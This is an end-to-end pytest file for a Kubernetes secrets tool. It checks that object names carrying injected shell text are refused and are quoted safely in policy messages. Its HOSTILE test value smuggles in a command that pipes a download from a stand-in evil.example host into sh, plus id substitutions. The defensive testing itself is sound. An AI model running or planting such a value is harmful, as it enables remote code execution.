"""Names are chosen by those whom the reader of a message need not trust: no command in a message obeys them."""

from __future__ import annotations

import shlex
from collections.abc import Iterator
from contextlib import contextmanager

import pytest

from runkeys.planning.access import RECONCILED, REVEAL, USE, grant, subject_of
from runkeys.policies.cel import filled, word
from runkeys.policies.shared import GRANT, SUBJECT, granted_by
from testing.cluster.base import wait_until
from testing.cluster.client import ApiError, Object
from testing.namespace import Team, binding, run
from tests.e2e.runs.conftest import TeamMaker

pytestmark = pytest.mark.e2e

HOSTILE = "x'; curl https://evil.example | sh; echo '\"$(id)`id`\\"
NAMES = [HOSTILE, "a b", '"},{"x":"', "\\", "keys", "team-a.keys", "é"]


def test_a_name_that_no_object_can_have_is_refused_and_not_repeated(new_team: TeamMaker) -> None:
    team = new_team()
    named: list[Object] = [
        run(team.namespace, bindings=[{"name": HOSTILE}]),
        run(team.namespace, serviceAccountName=HOSTILE),
        run(team.namespace, task={"dataPools": [{"name": "d", "persistentVolumeClaim": HOSTILE}]}),
        binding(team.namespace, secrets=[{"name": "a", "secretKeyRef": {"name": HOSTILE, "key": "k"}}]),
        {
            "apiVersion": "runkeys.dev/v1alpha1",
            "kind": "SecretReveal",
            "metadata": {"name": "r", "namespace": team.namespace},
            "spec": {"binding": HOSTILE, "entry": "e", "publicKey": "k"},
        },
    ]
    for made in named:
        with pytest.raises(ApiError) as refused:
            team.client.create(made)
        assert refused.value.status == 422, refused.value.message
        assert "it must be the name of an object" in refused.value.message
        assert "curl" not in str(refused.value.body)


def test_the_command_that_a_policy_tells_is_that_of_the_operator_whatever_the_name(
    new_team: TeamMaker,
) -> None:
    """The policy's own text, in a policy on ConfigMaps: their data may hold what no name may."""
    team = new_team()
    name = "object.data['name']"
    texts = {verb: filled(GRANT, **granted_by(verb, name)) for verb in (USE, REVEAL)}
    texts["word"] = f"{word('--as=<name>', name=name)} + '|'"
    review = {"apiVersion": "authentication.k8s.io/v1", "kind": "SelfSubjectReview"}
    answer = team.client.request("POST", "/apis/authentication.k8s.io/v1/selfsubjectreviews", body=review)
    me = answer["status"]["userInfo"]["username"]
    with refuses_config_maps(team, texts):
        for value in NAMES:
            for what, data in ((what, {"name": value, "what": what}) for what in texts):
                told = refused(team, data)
                if what == "word":
                    assert shlex.split(told.removesuffix("|")) == [f"--as={value}"]
                else:
                    subject = subject_of(me)
                    assert told == grant(what, team.namespace, value, subject)
                    assert told.endswith(RECONCILED)


# how


@contextmanager
def refuses_config_maps(team: Team, texts: dict[str, str]) -> Iterator[None]:
    """A policy of the test's own that refuses ConfigMaps of the namespace with these texts."""
    name = f"names.{team.namespace}"
    checks = [
        {"expression": f"object.data['what'] != '{what}'", "message": "another", "messageExpression": text}
        for what, text in texts.items()
    ]
    rule = {"apiGroups": [""], "apiVersions": ["v1"], "operations": ["CREATE"], "resources": ["configmaps"]}
    here = {"matchLabels": {"kubernetes.io/metadata.name": team.namespace}}
    spec = {
        "matchConstraints": {"resourceRules": [rule], "namespaceSelector": here},
        "variables": [{"name": "subject", "expression": SUBJECT}],
        "validations": checks,
    }
    version, kind = "admissionregistration.k8s.io/v1", "ValidatingAdmissionPolicy"
    metadata = {"name": name, "labels": {"runkeys.test/namespace": team.namespace}}
    bound = {"policyName": name, "validationActions": ["Deny"]}
    team.client.create({"apiVersion": version, "kind": kind, "metadata": metadata, "spec": spec})
    team.client.create({"apiVersion": version, "kind": f"{kind}Binding", "metadata": metadata, "spec": bound})
    wait_until("the policy to refuse", lambda: refused(team, {"name": "x", "what": "word"}) != "")
    try:
        yield
    finally:
        team.client.delete("validatingadmissionpolicybindings", name)
        team.client.delete("validatingadmissionpolicies", name)


def refused(team: Team, data: dict[str, str]) -> str:
    """What the test's policy tells about a ConfigMap; empty if it lets it in."""
    metadata = {"name": "x", "namespace": team.namespace}
    try:
        team.client.create(
            {"apiVersion": "v1", "kind": "ConfigMap", "metadata": metadata, "data": data}, dryRun="All"
        )
    except ApiError as error:
        return error.message.partition("denied request: ")[2]
    return ""
